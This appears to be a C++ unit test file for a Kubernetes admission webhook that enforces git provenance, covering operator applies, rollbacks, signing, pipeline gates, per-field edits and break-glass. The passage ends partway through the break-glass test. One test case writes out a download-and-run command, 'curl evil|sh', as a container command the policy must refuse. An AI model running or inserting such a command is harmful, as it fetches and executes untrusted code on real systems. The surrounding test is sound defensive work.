// The provenance policy against real git repositories (file://, libgit2
// mirrors) and a fake view of the cluster.
#include "webhook/policy.h"

#include <gtest/gtest.h>

#include <cctype>
#include <chrono>
#include <cstdio>
#include <functional>

#include "../git/testutil.h"
#include "api/names.h"
#include "manifest/git_tree.h"
#include "manifest/render.h"

namespace cairn::webhook {
namespace {

using git::testing::Repo;
using git::testing::TempDir;
using json = cairn::json;

class FakeCluster : public ClusterView {
 public:
  std::map<std::string, Mode> modes;
  std::map<std::string, std::vector<std::string>> allowed_sources;
  std::string namespace_error;  // namespace_info fails with it when set
  std::vector<std::shared_ptr<const ReleaseInfo>> rels;
  std::map<std::string, std::string> phases;  // "pipeline commit" -> phase
  std::set<std::string> pipelines;
  std::map<std::string, std::string> pipeline_urls;  // default: pipeline_url
  std::string pipeline_url;
  std::vector<std::string> keys;

  std::expected<NamespaceInfo, std::string> namespace_info(const std::string& ns) override {
    if (!namespace_error.empty()) return std::unexpected(namespace_error);
    NamespaceInfo info;
    if (auto it = modes.find(ns); it != modes.end()) info.mode = it->second;
    if (auto it = allowed_sources.find(ns); it != allowed_sources.end())
      info.allowed_sources = it->second;
    return info;
  }
  std::vector<std::shared_ptr<const ReleaseInfo>> releases(const std::string& ns) override {
    std::vector<std::shared_ptr<const ReleaseInfo>> out;
    for (const auto& r : rels)
      if (r->ns == ns) out.push_back(r);
    return out;
  }
  std::expected<std::shared_ptr<const ReleaseInfo>, std::string> fresh_release(
      const std::string& ns, const std::string& name) override {
    for (const auto& r : rels)
      if (r->ns == ns && r->name == name) return r;
    return nullptr;
  }
  std::optional<std::string> run_phase(const std::string&, const std::string& p,
                                       const std::string& commit) override {
    if (!pipelines.contains(p)) return std::nullopt;
    auto it = phases.find(p + " " + commit);
    return it == phases.end() ? "" : it->second;
  }
  std::optional<std::string> pipeline_source(const std::string&, const std::string& p) override {
    if (!pipelines.contains(p)) return std::nullopt;
    auto it = pipeline_urls.find(p);
    return it == pipeline_urls.end() ? pipeline_url : it->second;
  }
  std::expected<std::vector<std::string>, std::string> signers(const ReleaseInfo&) override {
    return keys;
  }
  std::optional<bool> is_namespaced(const std::string&, const std::string&) override {
    return std::nullopt;
  }
};

class LocalGit : public GitView {
 public:
  explicit LocalGit(std::string dir) : cache_(std::move(dir)) {}
  std::shared_ptr<git::Source> source(const std::string& url) override {
    return cache_.mirror(url);
  }
  std::expected<void, std::string> fetch(const ReleaseInfo&, git::Source& s) override {
    ++fetches;
    if (fail) return std::unexpected(std::string("Unreachable: connection refused"));
    auto r = s.fetch({});
    if (!r) return std::unexpected(r.error().to_string());
    return {};
  }
  int fetches = 0;
  bool fail = false;

 private:
  git::Cache cache_;
};

const std::string kOperator = "system:serviceaccount:cairn-system:cairn-operator";
const std::vector<std::string> kBreakGlass = {"cairn:break-glass", "system:authenticated"};

const char* kApp = R"(apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  replicas: 2
  selector:
    matchLabels: {app: web}
  template:
    metadata:
      labels: {app: web}
    spec:
      containers:
      - name: web
        image: shop/web:1
        resources:
          limits: {cpu: "0.5", memory: 128Mi}
---
apiVersion: v1
kind: ConfigMap
metadata:
  name: settings
data:
  color: blue
)";

class PolicyTest : public ::testing::Test {
 protected:
  void SetUp() override {
    repo_.write("deploy/app.yaml", kApp);
    commit_a_ = repo_.commit("A");
    repo_.push();
    cluster_.modes["shop"] = Mode::kDeny;
    cluster_.modes["loose"] = Mode::kWarn;
    cluster_.modes["watched"] = Mode::kAudit;
    add_release("shop");
    add_release("loose");
    add_release("watched");
    opts_.operator_users = {kOperator};
    cluster_.pipeline_url = repo_.url();
    policy_ = std::make_unique<Policy>(cluster_, git_, opts_);
  }

  void add_release(const std::string& ns, const std::string& name = "app",
                   std::function<void(api::ReleaseSpec&)> edit = {}) {
    api::ReleaseSpec spec;
    spec.source.url = repo_.url();
    spec.source.branch = "main";
    spec.path = "deploy";
    if (edit) edit(spec);
    cluster_.rels.push_back(std::make_shared<const ReleaseInfo>(ReleaseInfo{ns, name, spec}));
  }
  // The Releases' status now says they deploy `current`.
  void set_current(const std::string& current, std::vector<std::string> history = {}) {
    for (auto& r : cluster_.rels) {
      auto copy = std::make_shared<ReleaseInfo>(*r);
      copy->targets = {current};
      copy->current_commit = current;
      copy->history = history;
      r = copy;
    }
  }

  // The object as the operator would apply it at `commit`, with what the
  // apiserver adds (defaults, uid, status).
  json live(const std::string& kind, const std::string& commit, const std::string& ns = "shop") {
    git::Mirror m(repo_.url(), tmp_ / ("render-" + commit));
    EXPECT_TRUE(m.fetch({}));
    auto files = m.files(commit, "deploy", {});
    if (!files) {
      ADD_FAILURE() << files.error().to_string();
      return {};
    }
    auto out = manifest::render({.release_namespace = ns,
                                 .release_name = "app",
                                 .commit = commit,
                                 .source_url = repo_.url(),
                                 .files = *files});
    EXPECT_TRUE(out);
    for (auto obj : out->objects) {
      if (obj["kind"] != kind) continue;
      obj["metadata"]["uid"] = "1234";
      obj["metadata"]["resourceVersion"] = "7";
      if (kind == "Deployment") {
        auto& c = obj["spec"]["template"]["spec"]["containers"][0];
        c["terminationMessagePath"] = "/dev/termination-log";
        c["resources"]["limits"]["cpu"] = "500m";  // the apiserver's canonical form
        obj["spec"]["strategy"] = {{"type", "RollingUpdate"}};
        obj["status"] = {{"replicas", 2}};
      }
      return obj;
    }
    ADD_FAILURE() << "no " << kind << " rendered";
    return {};
  }

  // The operator applying `obj`.
  Review op(const std::string& operation, json obj, const std::string& ns = "shop") {
    return review(operation, std::move(obj), ns, kOperator);
  }
  // `user` changing `before` into `after`.
  Review update(json before, json after, const std::string& user = "alice",
                std::vector<std::string> groups = {"system:authenticated"}) {
    Review r = review("UPDATE", std::move(after), "shop", user, std::move(groups));
    r.old_object = std::move(before);
    return r;
  }
  static Review subresource(Review r, const std::string& sub) {
    r.sub_resource = sub;
    return r;
  }
  static std::string message(const Decision& d) { return d.verdict.message; }

  Review review(const std::string& op, json obj, const std::string& ns = "shop",
                const std::string& user = "alice", std::vector<std::string> groups = {}) {
    Review r;
    r.api_version = "admission.k8s.io/v1";
    r.uid = "u-1";
    std::string kind = obj.value("kind", "Deployment");
    std::string av = obj.value("apiVersion", "v1");
    r.kind = kind;
    r.group = av.find('/') == std::string::npos ? "" : av.substr(0, av.find('/'));
    r.version = "v1";
    r.resource_group = r.group;
    std::string plural = kind;
    for (char& c : plural) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
    r.resource = plural + (plural.ends_with("s") ? "es" : "s");
    r.ns = ns;
    r.name = obj["metadata"].value("name", "");
    r.operation = op;
    r.username = user;
    r.groups = std::move(groups);
    if (op == "DELETE")
      r.old_object = std::move(obj);
    else
      r.object = std::move(obj);
    return r;
  }

  TempDir tmp_;
  Repo repo_{tmp_};
  std::string commit_a_;
  FakeCluster cluster_;
  LocalGit git_{tmp_ / "cache"};
  PolicyOptions opts_;
  std::unique_ptr<Policy> policy_;
};

TEST_F(PolicyTest, UngovernedNamespaceIsAdmitted) {
  json cm = {{"apiVersion", "v1"}, {"kind", "ConfigMap"}, {"metadata", {{"name", "x"}}}};
  auto d = policy_->decide(review("CREATE", cm, "elsewhere"));
  EXPECT_TRUE(d.verdict.allowed);
  EXPECT_EQ(d.rule, "not-governed");
}

// Rule 7: what a decision needs cannot be read -> refused, never ungoverned.
TEST_F(PolicyTest, UnreadableNamespaceFailsClosed) {
  cluster_.namespace_error = "connection refused";
  json cm = {{"apiVersion", "v1"}, {"kind", "ConfigMap"}, {"metadata", {{"name", "x"}}}};
  auto d = policy_->decide(review("CREATE", cm, "elsewhere"));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("cannot verify"), std::string::npos) << message(d);
  // The exempt namespaces are decided by name, before anything is read.
  EXPECT_TRUE(policy_->decide(review("CREATE", cm, "kube-system")).verdict.allowed);
}

// ---- rule 2: the operator, with a current target commit

TEST_F(PolicyTest, OperatorApplyMatchingGitIsAdmittedAndCached) {
  auto d = policy_->decide(op("UPDATE", live("Deployment", commit_a_)));
  EXPECT_TRUE(d.verdict.allowed) << message(d);
  EXPECT_EQ(d.rule, "provenance");
  int fetches = git_.fetches;
  d = policy_->decide(op("UPDATE", live("Deployment", commit_a_)));
  EXPECT_TRUE(d.verdict.allowed) << message(d);
  EXPECT_EQ(git_.fetches, fetches);
}

// A Release of a Helm chart (spec.helm): the webhook renders it with the
// Release's values files and values, as the operator does, so the operator's
// objects are admitted; an object rendered with other values is not.
TEST_F(PolicyTest, OperatorObjectsOfAChartReleaseAreAdmitted) {
  repo_.write("deploy/chart/Chart.yaml", "apiVersion: v2\nname: web\nversion: 1.0.0\n");
  repo_.write("deploy/chart/values.yaml", "replicas: 1\nimage: shop/web:1\n");
  repo_.write("deploy/chart/templates/deployment.yaml", R"(apiVersion: apps/v1
kind: Deployment
metadata:
  name: {{ .Release.Name }}-web
spec:
  replicas: {{ .Values.replicas }}
  selector:
    matchLabels: {app: web}
  template:
    metadata:
      labels: {app: web}
    spec:
      containers:
      - name: web
        image: {{ .Values.image }}
)");
  repo_.write("deploy/chart/charts/cache/Chart.yaml",
              "apiVersion: v2\nname: cache\nversion: 0.1.0\n");
  repo_.write("deploy/chart/charts/cache/templates/cm.yaml",
              "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: '{{ .Release.Name }}-cache'}\n"
              "data: {team: '{{ .Values.global.team }}'}\n");
  repo_.write("env/prod.yaml", "replicas: 4\n");
  const std::string commit = repo_.commit("chart");
  repo_.push();
  cluster_.modes["charts"] = Mode::kDeny;
  // The Release as the webhook reads it from the cluster.
  auto info = release_info_of(json::parse(R"({
    "apiVersion": "cairn.dev/v1alpha1", "kind": "Release",
    "metadata": {"name": "web", "namespace": "charts"},
    "spec": {"source": {"url": ")" + repo_.url() +
                                          R"(", "branch": "main"},
             "path": "deploy/chart",
             "helm": {"valuesFiles": ["env/prod.yaml"], "releaseName": "prod",
                      "values": {"image": "shop/web:3", "global": {"team": "pay"}}}}
  })"));
  ASSERT_NE(info, nullptr);
  ASSERT_TRUE(info->spec.helm.has_value()) << "release_info_of carries spec.helm";
  cluster_.rels.push_back(info);

  // What the operator applies: the one render, from the Release's spec.
  git::Mirror m(repo_.url(), tmp_ / "operator");
  ASSERT_TRUE(m.fetch({}));
  auto out = manifest::render_at(m, commit, manifest::ReleaseRef::of("charts", "web", info->spec));
  ASSERT_TRUE(out) << manifest::to_string(out.error());
  ASSERT_EQ(out->objects.size(), 2u);
  json deployment;
  for (const json& obj : out->objects) {
    auto d = policy_->decide(op("CREATE", obj, "charts"));
    EXPECT_TRUE(d.verdict.allowed) << obj["kind"] << ": " << message(d);
    if (obj["kind"] == "Deployment") deployment = obj;
  }
  ASSERT_EQ(deployment["metadata"]["name"], "prod-web");
  EXPECT_EQ(deployment["spec"]["replicas"], 4);
  EXPECT_EQ(deployment["spec"]["template"]["spec"]["containers"][0]["image"], "shop/web:3");

  // The chart's defaults (what a render ignoring spec.helm would produce)
  // are not what git says for this Release.
  json defaults = deployment;
  defaults["spec"]["replicas"] = 1;
  auto d = policy_->decide(op("CREATE", defaults, "charts"));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("spec.replicas differs from git"), std::string::npos) << message(d);
}

TEST_F(PolicyTest, ObjectWithoutItsNamespaceIsInTheRequestsNamespace) {
  json obj = live("Deployment", commit_a_);
  obj["metadata"].erase("namespace");
  auto d = policy_->decide(op("CREATE", obj));
  EXPECT_TRUE(d.verdict.allowed) << message(d);
}

TEST_F(PolicyTest, OperatorObjectDifferingFromGitIsDeniedNamingTheField) {
  json obj = live("Deployment", commit_a_);
  obj["spec"]["template"]["spec"]["containers"][0]["image"] = "evil/web:1";
  auto d = policy_->decide(op("UPDATE", obj));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("containers[0].image differs from git"), std::string::npos)
      << message(d);
  EXPECT_NE(message(d).find("deploy/app.yaml"), std::string::npos) << message(d);
  EXPECT_EQ(message(d).find("evil"), std::string::npos) << message(d);
}

// Putting git back after break-glass starts by taking over field ownership:
// an UPDATE that changes only managedFields of an object still off git. It
// changes nothing that runs, so it is admitted; the apply that follows is
// checked against git as always.
TEST_F(PolicyTest, OperatorTakingOverFieldsOfAnObjectOffGitChangesNothingAndIsAdmitted) {
  json off = live("Deployment", commit_a_);
  off["spec"]["replicas"] = 0;  // break-glass: kubectl scale --replicas=0
  json taken = off;
  taken["metadata"]["managedFields"] = json::array(
      {{{"manager", "cairn"}, {"operation", "Apply"}, {"fieldsV1", {{"f:spec", json::object()}}}}});
  Review q = op("UPDATE", taken);
  q.old_object = off;
  auto d = policy_->decide(q);
  EXPECT_TRUE(d.verdict.allowed) << message(d);
  EXPECT_EQ(d.rule, "operator-ownership");
  // Anything more than ownership is checked against git, and refused.
  json still_off = off;
  still_off["metadata"]["labels"]["extra"] = "x";
  q = op("UPDATE", still_off);
  q.old_object = off;
  d = policy_->decide(q);
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("spec.replicas differs from git"), std::string::npos) << message(d);
}

TEST_F(PolicyTest, OlderCommitIsNotATargetButARollbackFromHistoryIs) {
  repo_.write("deploy/app.yaml", std::string(kApp) + "  size: large\n");
  std::string b = repo_.commit("B");
  repo_.push();
  set_current(b, {b, commit_a_});
  auto d = policy_->decide(op("UPDATE", live("ConfigMap", commit_a_)));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("is older than"), std::string::npos) << message(d);
  EXPECT_NE(message(d).find("cairn.dev/rollback-to"), std::string::npos) << message(d);
  EXPECT_TRUE(policy_->decide(op("UPDATE", live("ConfigMap", b))).verdict.allowed);
  // kubectl cairn rollback: the Release names commit A from its history.
  for (auto& r : cluster_.rels) {
    auto copy = std::make_shared<ReleaseInfo>(*r);
    copy->targets.insert(commit_a_);
    r = copy;
  }
  d = policy_->decide(op("UPDATE", live("ConfigMap", commit_a_)));
  EXPECT_TRUE(d.verdict.allowed) << message(d);
}

TEST_F(PolicyTest, ForgedCommitIdIsDeniedAfterOneFetch) {
  json obj = live("Deployment", commit_a_);
  obj["metadata"]["annotations"][std::string(api::kCommitAnnotation)] =
      "0123456789abcdef0123456789abcdef01234567";
  int before = git_.fetches;
  auto d = policy_->decide(op("UPDATE", obj));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("does not exist"), std::string::npos) << message(d);
  EXPECT_EQ(git_.fetches, before + 1);
}

TEST_F(PolicyTest, CommitPushedAfterTheMirrorWasFetchedIsFoundByOneFetch) {
  ASSERT_TRUE(policy_->decide(op("UPDATE", live("Deployment", commit_a_))).verdict.allowed);
  repo_.write("deploy/app.yaml", std::string(kApp) + "  size: large\n");
  std::string b = repo_.commit("B");
  repo_.push();
  int before = git_.fetches;
  auto d = policy_->decide(op("UPDATE", live("ConfigMap", b)));
  EXPECT_TRUE(d.verdict.allowed) << message(d);
  EXPECT_EQ(git_.fetches, before + 1);
}

TEST_F(PolicyTest, CommitOnUnmergedBranchIsDenied) {
  repo_.git("checkout -q -b feature");
  repo_.write("deploy/app.yaml", std::string(kApp) + "  size: large\n");
  std::string side = repo_.commit("side");
  repo_.push();
  auto d = policy_->decide(op("UPDATE", live("ConfigMap", side)));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("is not on branch main"), std::string::npos) << message(d);
}

TEST_F(PolicyTest, StampFromAnotherRepositoryIsDenied) {
  json obj = live("Deployment", commit_a_);
  obj["metadata"]["annotations"][std::string(api::kSourceAnnotation)] =
      "https://git.example.com/other.git";
  auto d = policy_->decide(op("UPDATE", obj));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("does not track"), std::string::npos) << message(d);
}

TEST_F(PolicyTest, UnreachableRepositoryFailsClosed) {
  json obj = live("Deployment", commit_a_);
  git_.fail = true;
  auto d = policy_->decide(op("UPDATE", obj));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("cannot be read"), std::string::npos) << message(d);
}

TEST_F(PolicyTest, GateRequiresASucceededRunOfAPipelineOfTheSameRepository) {
  cluster_.rels.clear();
  add_release("shop", "app", [](api::ReleaseSpec& s) { s.gate = api::GateSpec{{"ci"}}; });
  cluster_.pipelines.insert("ci");
  Policy p(cluster_, git_, opts_);
  json obj = live("Deployment", commit_a_);
  cluster_.phases["ci " + commit_a_] = "Failed";
  auto d = p.decide(op("UPDATE", obj));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("did not pass Pipeline shop/ci"), std::string::npos) << message(d);
  cluster_.phases["ci " + commit_a_] = "Succeeded";
  EXPECT_TRUE(p.decide(op("UPDATE", obj)).verdict.allowed);
  // A gate Pipeline that tests another repository passes nothing.
  cluster_.pipeline_urls["ci"] = "https://git.example.com/always-green.git";
  d = p.decide(op("UPDATE", obj));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("follows another repository"), std::string::npos) << message(d);
}

TEST_F(PolicyTest, UnsignedCommitIsDeniedWhereSigningIsRequired) {
  cluster_.rels.clear();
  add_release("shop", "app", [](api::ReleaseSpec& s) {
    s.source.verify.mode = api::VerifyMode::kHead;
    s.source.verify.signers_secret_ref = api::LocalObjectReference{"signers"};
  });
  cluster_.keys = {
      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"};
  Policy p(cluster_, git_, opts_);
  auto d = p.decide(op("UPDATE", live("Deployment", commit_a_)));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("is not signed"), std::string::npos) << message(d);
}

TEST_F(PolicyTest, ObjectMissingFromTheCommitIsDenied) {
  json obj = live("ConfigMap", commit_a_);
  obj["metadata"]["name"] = "other";
  auto d = policy_->decide(op("CREATE", obj));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("is not among the manifests under deploy/"), std::string::npos)
      << message(d);
}

TEST_F(PolicyTest, OperatorWritesOnlyStampedObjects) {
  json cm = {{"apiVersion", "v1"}, {"kind", "ConfigMap"}, {"metadata", {{"name", "x"}}}};
  auto d = policy_->decide(op("CREATE", cm));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("no provenance stamp"), std::string::npos) << message(d);
  // Its Pipeline Jobs, and deletes (prune), are its own.
  json job = {{"apiVersion", "batch/v1"},
              {"kind", "Job"},
              {"metadata",
               {{"name", "ci-1-test"},
                {"labels", {{"cairn.dev/pipeline", "ci"}}},
                {"annotations", {{"cairn.dev/commit", commit_a_}}}}}};
  EXPECT_TRUE(policy_->decide(op("CREATE", job)).verdict.allowed);
  EXPECT_TRUE(policy_->decide(op("DELETE", live("ConfigMap", commit_a_))).verdict.allowed);
}

// ---- rule 2 for everyone else: only the operator creates

TEST_F(PolicyTest, AnObjectCopiedFromGitByAPersonIsStillNotFromGit) {
  auto d = policy_->decide(review("CREATE", live("ConfigMap", commit_a_)));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("was never in git"), std::string::npos) << message(d);
  EXPECT_NE(message(d).find(repo_.url()), std::string::npos) << message(d);
  EXPECT_NE(message(d).find("Release shop/app"), std::string::npos) << message(d);
}

TEST_F(PolicyTest, UnstampedCreateIsDeniedWithWhereToCommit) {
  json cm = {{"apiVersion", "v1"}, {"kind", "ConfigMap"}, {"metadata", {{"name", "x"}}}};
  auto d = policy_->decide(review("CREATE", cm));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_EQ(d.verdict.code, 403);
  const auto& m = d.verdict.message;
  EXPECT_NE(m.find(repo_.url()), std::string::npos) << m;
  EXPECT_NE(m.find("branch main"), std::string::npos) << m;
  EXPECT_NE(m.find("deploy/"), std::string::npos) << m;
  EXPECT_NE(m.find("Release shop/app"), std::string::npos) << m;
}

// ---- rule 3: every UPDATE is diffed; each changed path must be allowed

TEST_F(PolicyTest, EveryFieldAPersonChangesIsRefusedByPath) {
  const json base = live("Deployment", commit_a_);
  struct Case {
    const char* expect;
    std::function<void(json&)> edit;
  };
  std::vector<Case> cases = {
      // a field git sets
      {"spec.template.spec.containers[0].image",
       [](json& o) { o["spec"]["template"]["spec"]["containers"][0]["image"] = "x:2"; }},
      // fields git does not set: container, pod, object and metadata level
      {"spec.template.spec.containers[0].command",
       [](json& o) {
         o["spec"]["template"]["spec"]["containers"][0]["command"] = {"sh", "-c", "curl evil|sh"};
       }},
      {"spec.template.spec.containers[0].env",
       [](json& o) {
         o["spec"]["template"]["spec"]["containers"][0]["env"] = {{{"name", "K"}, {"value", "v"}}};
       }},
      {"spec.template.spec.initContainers",
       [](json& o) {
         o["spec"]["template"]["spec"]["initContainers"] = {{{"name", "i"}, {"image", "x"}}};
       }},
      {"spec.template.spec.hostNetwork",
       [](json& o) { o["spec"]["template"]["spec"]["hostNetwork"] = true; }},
      {"spec.template.spec.serviceAccountName",
       [](json& o) { o["spec"]["template"]["spec"]["serviceAccountName"] = "admin"; }},
      {"spec.template.metadata.labels.extra",
       [](json& o) { o["spec"]["template"]["metadata"]["labels"]["extra"] = "1"; }},
      {"spec.template.metadata.annotations[\"kubectl.kubernetes.io/restartedAt\"]",
       [](json& o) {
         o["spec"]["template"]["metadata"]["annotations"]["kubectl.kubernetes.io/restartedAt"] =
             "now";
       }},
      {"spec.paused", [](json& o) { o["spec"]["paused"] = true; }},
      {"metadata.labels.team", [](json& o) { o["metadata"]["labels"]["team"] = "x"; }},
      // the garbage collector cannot be borrowed
      {"metadata.ownerReferences",
       [](json& o) {
         o["metadata"]["ownerReferences"] = {
             {{"apiVersion", "v1"}, {"kind", "ConfigMap"}, {"name", "gone"}, {"uid", "0"}}};
       }},
  };
  for (const auto& c : cases) {
    json after = base;
    c.edit(after);
    auto d = policy_->decide(update(base, after));
    ASSERT_FALSE(d.verdict.allowed) << c.expect;
    EXPECT_NE(message(d).find(c.expect), std::string::npos) << message(d);
    EXPECT_NE(message(d).find("deploy/app.yaml"), std::string::npos) << message(d);
    EXPECT_NE(message(d).find("Release shop/app"), std::string::npos) << message(d);
    EXPECT_EQ(message(d).find("evil"), std::string::npos) << message(d);
  }
  // What the apiserver and the status subresource write is no change.
  json after = base;
  after["metadata"]["resourceVersion"] = "8";
  after["metadata"]["generation"] = 3;
  after["status"] = {{"replicas", 5}};
  EXPECT_TRUE(policy_->decide(update(base, after)).verdict.allowed);
}

TEST_F(PolicyTest, ANewConfigMapKeyIsRefused) {
  const json base = live("ConfigMap", commit_a_);
  json after = base;
  after["data"]["extra"] = "1";
  auto d = policy_->decide(update(base, after));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("data.extra was added"), std::string::npos) << message(d);
}

TEST_F(PolicyTest, IgnoredFieldsMayBeChangedByAnyone) {
  opts_.ignore_fields["apps/Deployment"] = {"spec.replicas"};
  Policy p(cluster_, git_, opts_);
  const json base = live("Deployment", commit_a_);
  json after = base;
  after["spec"]["replicas"] = 7;
  EXPECT_TRUE(p.decide(update(base, after)).verdict.allowed);
  // ... and the operator's apply with a different count still matches git.
  EXPECT_TRUE(p.decide(op("UPDATE", after)).verdict.allowed);
  after["spec"]["paused"] = true;
  EXPECT_FALSE(p.decide(update(base, after)).verdict.allowed);
}

TEST_F(PolicyTest, ScaleIsRefusedToPeopleUnlessAllowedButNotToAnAutoscaler) {
  json scale = {{"apiVersion", "autoscaling/v1"},
                {"kind", "Scale"},
                {"metadata", {{"name", "web"}}},
                {"spec", {{"replicas", 2}}}};
  json scaled = scale;
  scaled["spec"]["replicas"] = 0;
  auto make = [&](const std::string& user, std::vector<std::string> groups) {
    Review s = update(scale, scaled, user, std::move(groups));
    s.kind = "Scale";
    s.group = "autoscaling";
    s.resource_group = "apps";
    s.resource = "deployments";
    s.sub_resource = "scale";
    return s;
  };
  auto d = policy_->decide(make("alice", {}));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("spec.replicas"), std::string::npos) << message(d);
  EXPECT_TRUE(policy_->decide(make("system:kube-controller-manager", {})).verdict.allowed);
  opts_.allow_scale = true;
  Policy loose(cluster_, git_, opts_);
  EXPECT_TRUE(loose.decide(make("alice", {})).verdict.allowed);
}

// ---- rule 1: derived kinds only from their controllers; kinds outside the old list

TEST_F(PolicyTest, DerivedKindsComeOnlyFromKubernetesControllers) {
  json pod = {{"apiVersion", "v1"},
              {"kind", "Pod"},
              {"metadata", {{"name", "p"}}},
              {"spec", {{"containers", {{{"name", "c"}, {"image", "x"}}}}}}};
  auto d = policy_->decide(review("CREATE", pod));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("a bare Pod"), std::string::npos) << message(d);
  EXPECT_TRUE(policy_
                  ->decide(review("CREATE", pod, "shop",
                                  "system:serviceaccount:kube-system:replicaset-controller",
                                  {"system:serviceaccounts", "system:serviceaccounts:kube-system"}))
                  .verdict.allowed);
  json job = {{"apiVersion", "batch/v1"}, {"kind", "Job"}, {"metadata", {{"name", "j"}}}};
  EXPECT_FALSE(policy_->decide(review("CREATE", job)).verdict.allowed);
  EXPECT_TRUE(policy_->decide(review("CREATE", job, "shop", "system:kube-controller-manager"))
                  .verdict.allowed);

  json rs = {{"apiVersion", "apps/v1"},
             {"kind", "ReplicaSet"},
             {"metadata", {{"name", "web-1"}}},
             {"spec", {{"template", {{"spec", {{"containers", {{{"image", "a"}}}}}}}}}}};
  json rs2 = rs;
  rs2["spec"]["template"]["spec"]["containers"][0]["image"] = "b";
  d = policy_->decide(update(rs, rs2));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("managed by Kubernetes' controllers"), std::string::npos) << message(d);
  // Deleting a Pod restarts it as its controller describes it.
  EXPECT_TRUE(policy_->decide(review("DELETE", pod)).verdict.allowed);
}

TEST_F(PolicyTest, SecretsAndAutoscalersAreGovernedAndEventsAreNot) {
  json secret = {{"apiVersion", "v1"}, {"kind", "Secret"}, {"metadata", {{"name", "s"}}}};
  EXPECT_FALSE(policy_->decide(review("CREATE", secret)).verdict.allowed);
  json hpa = {{"apiVersion", "autoscaling/v2beta2"},
              {"kind", "HorizontalPodAutoscaler"},
              {"metadata", {{"name", "web"}}},
              {"spec", {{"minReplicas", 0}}}};
  EXPECT_FALSE(policy_->decide(review("CREATE", hpa)).verdict.allowed);
  json crd_obj = {
      {"apiVersion", "example.com/v1"}, {"kind", "Widget"}, {"metadata", {{"name", "w"}}}};
  EXPECT_FALSE(policy_->decide(review("CREATE", crd_obj)).verdict.allowed);
  json event = {{"apiVersion", "v1"}, {"kind", "Event"}, {"metadata", {{"name", "e"}}}};
  EXPECT_TRUE(policy_->decide(review("CREATE", event)).verdict.allowed);
  json lease = {
      {"apiVersion", "coordination.k8s.io/v1"}, {"kind", "Lease"}, {"metadata", {{"name", "l"}}}};
  EXPECT_TRUE(policy_->decide(review("CREATE", lease)).verdict.allowed);
}

TEST_F(PolicyTest, AnOutsideControllerIsTrustedPerIdentityAndKind) {
  opts_.trusted_writers["system:serviceaccount:es:external-secrets"] = {"/Secret"};
  Policy p(cluster_, git_, opts_);
  json secret = {{"apiVersion", "v1"}, {"kind", "Secret"}, {"metadata", {{"name", "s"}}}};
  json cm = {{"apiVersion", "v1"}, {"kind", "ConfigMap"}, {"metadata", {{"name", "c"}}}};
  const std::string es = "system:serviceaccount:es:external-secrets";
  EXPECT_TRUE(p.decide(review("CREATE", secret, "shop", es)).verdict.allowed);
  EXPECT_FALSE(p.decide(review("CREATE", cm, "shop", es)).verdict.allowed);
  EXPECT_FALSE(p.decide(review("CREATE", secret, "shop", "alice")).verdict.allowed);
}

TEST_F(PolicyTest, ControllersChangeOnlyTheFieldsTheyOwnOnObjectsFromGit) {
  const json base = live("Deployment", commit_a_);
  json after = base;
  after["metadata"]["annotations"]["deployment.kubernetes.io/revision"] = "2";
  const std::string kcm = "system:kube-controller-manager";
  EXPECT_TRUE(policy_->decide(update(base, after, kcm, {})).verdict.allowed);
  after["spec"]["template"]["spec"]["containers"][0]["image"] = "x:2";
  EXPECT_FALSE(policy_->decide(update(base, after, kcm, {})).verdict.allowed);
  // The token controller adds a token Secret to a ServiceAccount.
  json sa = {{"apiVersion", "v1"},
             {"kind", "ServiceAccount"},
             {"metadata", {{"name", "app"}, {"annotations", {{"cairn.dev/commit", commit_a_}}}}}};
  json sa2 = sa;
  sa2["secrets"] = {{{"name", "app-token-x"}}};
  EXPECT_TRUE(policy_->decide(update(sa, sa2, kcm, {})).verdict.allowed);
  EXPECT_FALSE(policy_->decide(update(sa, sa2, "alice")).verdict.allowed);
}

// ---- rule 4: break-glass

TEST_F(PolicyTest, BreakGlassIsTheGroupsAndOnlyTheGroupsToSet) {
  const json base = live("Deployment", commit_a_);
  json after = base;
  after["spec"]["template"]["spec"]["containers"][0]["env"] = {{{"name", "DEBUG"}, {"value", "1"}}};
  after["metadata"]["annotations"][std::string(api::kBreakGlassAnnotation)] = "INC-42 hotfix";
  auto d = policy_->decide(update(base, after, "bob", kBreakGlass));
  EXPECT_TRUE(d.verdict.allowed);
  EXPECT_TRUE(d.break_glass);
  EXPECT_EQ(d.break_glass_reason, "INC-42 hotfix");
  ASSERT_FALSE(d.verdict.warnings.empty());
  EXPECT_NE(d.verdict.warnings[0].find("break-glass"), std::string::npos);

  // Someone else setting the annotation: refused, naming it and the group.
  auto outsider = policy_->decide(update(base, after, "eve", {"devs"}));
  ASSERT_FALSE(outsider.verdict.allowed);
  EXPECT_NE(message(outsider).find("may be set only by members of cairn:break-glass"),
            std::string::npos)
      << message(outsider);
  // ... or removing the group's.
  auto removal = policy_->decide(update(after, base, "eve", {"devs"}));
